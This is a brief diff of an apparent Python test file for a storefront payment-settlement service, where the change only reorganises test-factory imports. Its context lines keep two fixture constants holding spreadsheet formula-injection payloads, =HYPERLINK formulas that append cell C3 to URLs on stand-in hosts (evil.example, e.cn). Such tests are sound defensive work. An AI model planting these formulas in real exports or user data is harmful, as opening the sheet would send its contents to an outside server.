@@ -9,7 +9,8 @@ import sqlalchemy as sa
 
 from storefront.models import Order
 from storefront.services.settle_payment import Notice, settle
-from tests.live_scenario import build, order_body
+from tests.factories.live import build
+from tests.factories.shop import order_body
 
 EVIL = '=HYPERLINK("http://evil.example/?"&C3,"x")'
 EVIL_NAME = '=HYPERLINK("http://e.cn/?"&C3)'  # the name column holds 30 characters; the detail takes EVIL
